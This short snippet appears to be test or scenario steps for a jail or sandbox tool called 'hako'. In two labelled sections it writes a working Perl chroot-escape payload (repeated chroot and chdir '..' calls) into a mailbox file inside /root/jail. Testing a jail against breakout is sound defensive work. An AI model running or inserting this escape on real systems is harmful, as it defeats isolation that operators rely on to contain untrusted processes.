#: raw
echo 'exec perl -e "mkdir q(d); chroot q(d); chdir q(..) for 1..64; chroot q(.); sleep 1000"' > /root/jail/mailbox

#: hako
hako ns show {{fact:pid}} > /dev/null
echo 'exec perl -e "mkdir q(e); chroot q(e); chdir q(..) for 1..99; chroot q(.); sleep 1000"' > /root/jail/mailbox
